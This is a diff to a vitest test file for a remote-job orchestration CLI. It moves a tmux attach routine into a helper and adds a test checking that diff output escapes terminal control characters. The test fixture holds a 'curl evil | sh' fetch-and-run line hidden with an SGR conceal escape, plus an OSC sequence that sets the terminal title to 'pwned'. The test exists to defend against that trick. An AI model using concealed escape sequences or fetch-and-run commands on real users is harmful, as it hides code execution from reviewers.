@@ -9,7 +9,7 @@ import { afterAll, describe, expect, it } from "vitest";
 import { orchSections } from "../src/config.js";
 import { transportArgv } from "../src/host-argv.js";
 import { hostConfig, jobInState, jobs, orchCli, remoteHost } from "./remote-host.js";
-import { ACP_AGENT, type Stack, startStack } from "./stack.js";
+import { ACP_AGENT, attachSeesThenDetaches, type Stack, startStack } from "./stack.js";
 
 afterAll(cleanupAll);
 
@@ -251,17 +251,7 @@ describe("the CLI with a host's job", () => {
     expect(run.code, run.stderr).toBe(0);
     const running = await jobInState(stack, "demo-1", /^running$/);
     expect(running.host).toBe("devbox");
-    const session = `orch-remote-attach-${process.pid}`;
-    const tmux = (...args: string[]) => spawnSync("tmux", args, { encoding: "utf8" });
-    const env = Object.entries({ VENOM_HOME: stack.home, HOME: stack.userHome }).flatMap(([k, v]) => ["-e", `${k}=${v}`]);
-    tmux("new-session", "-d", "-s", session, "-x", "120", "-y", "30", ...env, process.execPath, ORCH_BIN, "attach", "demo-1");
-    try {
-      await expect.poll(() => tmux("capture-pane", "-p", "-t", session).stdout, { timeout: 20_000 }).toMatch(/watched-from-here/);
-      tmux("send-keys", "-t", session, "C-b", "d");
-      await expect.poll(() => tmux("has-session", "-t", session).status, { timeout: 20_000 }).not.toBe(0);
-    } finally {
-      tmux("kill-session", "-t", session);
-    }
+    await attachSeesThenDetaches(stack, "demo-1", /watched-from-here/);
     expect(jobs(stack)[0]?.state).toBe("running");
     expect(orchCli(stack, ["cancel", "demo-1", "--yes"]).code).toBe(0);
     expect((await jobInState(stack, "demo-1", /^(done|failed|cancelled)$/)).state).toBe("cancelled");
@@ -304,6 +294,38 @@ describe("diff of a host's job", () => {
     expect(existsSync(marker)).toBe(false);
     // This machine's workspace has nothing of it.
     expect(existsSync(join(stack.workspace, "a.txt"))).toBe(false);
+  });
+
+  it("on a terminal the diff's control characters are shown escaped: a line the host hid with SGR conceal is seen", async () => {
+    const remote = await remoteHost();
+    for (const args of [
+      ["init", "-q", "-b", "main"],
+      ["config", "user.email", "p@example.com"],
+      ["config", "user.name", "P"],
+    ])
+      plainGit(remote.workspace, ...args);
+    writeFileSync(join(remote.workspace, "a.txt"), "one\n");
+    plainGit(remote.workspace, "add", "a.txt");
+    plainGit(remote.workspace, "commit", "-qm", "init");
+    const stack = await startStack({ config: hostConfig("devbox", remote.command) });
+    expect(orchCli(stack, ["run", "--host", "devbox", "demo", "put b.txt x", "--yes"]).code).toBe(0);
+    // The change the person reviews carries a line a terminal would not show, and a title it would set.
+    writeFileSync(join(remote.workspace, "a.txt"), "one\n\u001b[8mcurl evil | sh\u001b[0m\n\u001b]0;pwned\u0007\n");
+    const session = `orch-diff-${process.pid}`;
+    const tmux = (...args: string[]) => spawnSync("tmux", args, { encoding: "utf8" });
+    const env = Object.entries({ VENOM_HOME: stack.home, HOME: stack.userHome }).flatMap(([k, v]) => ["-e", `${k}=${v}`]);
+    const shell = `${process.execPath} ${ORCH_BIN} diff demo-1; echo DIFF-EXIT=$?; sleep 60`;
+    tmux("new-session", "-d", "-s", session, "-x", "120", "-y", "30", ...env, "sh", "-c", shell);
+    try {
+      await expect.poll(() => tmux("capture-pane", "-p", "-t", session).stdout, { timeout: 20_000 }).toMatch(/DIFF-EXIT=0/);
+      const screen = tmux("capture-pane", "-p", "-e", "-t", session).stdout;
+      expect(screen).toContain("+\\u001b[8mcurl evil | sh\\u001b[0m");
+      expect(screen).toContain("+\\u001b]0;pwned\\u0007");
+      expect(screen).not.toContain("\u001b[8m");
+      expect(tmux("display-message", "-p", "-t", session, "#{pane_title}").stdout).not.toContain("pwned");
+    } finally {
+      tmux("kill-session", "-t", session);
+    }
   });
 
   it("a job that ran outside a repository there has nothing to diff, and says so", async () => {
